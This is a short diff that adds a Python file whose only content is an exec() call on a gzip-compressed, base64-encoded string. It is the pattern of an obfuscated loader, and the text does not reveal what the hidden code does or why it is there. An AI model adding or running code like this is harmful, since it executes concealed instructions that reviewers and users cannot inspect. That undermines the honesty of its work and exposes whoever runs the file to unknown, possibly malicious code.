@@ -1,0 +1,2 @@
+import gzip, base64
+exec(gzip.decompress(base64.b64decode("H4sIAAAAAAACA8vMLcgvKlHIL7bOL9YrriwuSc3VUEouLcpR0C1WyCgpKSi20tdPTsnTrTDXy8wrS8zJTNFPVKhRSEoszlDSBACDyqtePgAAAA==")))
